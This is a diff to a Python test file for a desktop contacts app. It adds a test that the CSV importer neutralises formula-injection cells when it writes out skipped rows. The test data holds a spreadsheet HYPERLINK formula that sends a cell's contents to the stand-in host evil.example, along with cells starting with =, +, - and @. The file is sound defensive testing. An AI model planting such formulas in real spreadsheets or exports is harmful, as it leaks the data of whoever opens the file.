@@ -4,13 +4,16 @@ the right thing in bounded work."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
 import pytest
 from sqlalchemy import text
 
-from oursociety_desktop.formats import csv_presets
+from oursociety_desktop.formats import csv_io, csv_presets
+from oursociety_desktop.formats.csv_cells import unescape_cell
 from oursociety_desktop.formats.csv_mapping import suggest_mapping
 from oursociety_desktop.formats.ics import export_ics
 from oursociety_desktop.formats.import_rows import MAX_ROW_WARNINGS, ImportRow
@@ -191,3 +194,27 @@ def test_a_line_break_of_any_kind_starts_no_property_in_a_card_or_a_calendar(db:
     assert sorted(line.split(":")[0] for line in calendar.splitlines() if "spy" in line) == [
         "DESCRIPTION", "LOCATION", "SUMMARY"]
     assert [[e["value"] for e in row.values["emails"]] for row in parse_vcards(card.encode())] == [["ann@example.org"]]
+
+
+def test_the_skipped_rows_of_a_hostile_file_run_no_formula_and_read_back_the_same(hub: Path, tmp_path: Path,
+                                                                                  capsys: pytest.CaptureFixture[str]
+                                                                                  ) -> None:
+    """The file of skipped rows is opened in a spreadsheet to be mended: a cell of the hostile file went in raw."""
+    link = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    path = tmp_path / "hostile.csv"
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows([["First Name", "Last Name", "Email", "Do Not Email"], ["Bad", "Two", link, "maybe"],
+                                  ["Old", "One", "'" + link, "maybe"], ["+Dial", "-Three", "@me", "=1"]])
+    path.write_text(buffer.getvalue(), encoding="utf-8")
+    errors = tmp_path / "skipped.csv"
+    code, _out, err = run(capsys, "--data-dir", hub, "csv", "import", path, "--errors-to", errors)
+    assert code == 0, err
+    saved = list(csv.reader(io.StringIO(errors.read_text(encoding="utf-8-sig"))))
+    assert [row[:4] for row in saved[1:]] == [["Bad", "Two", "'" + link, "maybe"], ["Old", "One", "'" + link, "maybe"],
+                                              ["'+Dial", "'-Three", "'@me", "'=1"]]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in saved for cell in row)
+    # Mended and read again, every cell reads as the first reading read it
+    first = csv_io.parse_csv(path.read_bytes())
+    again = csv_io.parse_csv(errors.read_bytes())
+    assert [[unescape_cell(c) for c in cells[:4]] for _line, cells in again.rows] == [
+        [unescape_cell(c) for c in cells] for _line, cells in first.rows]
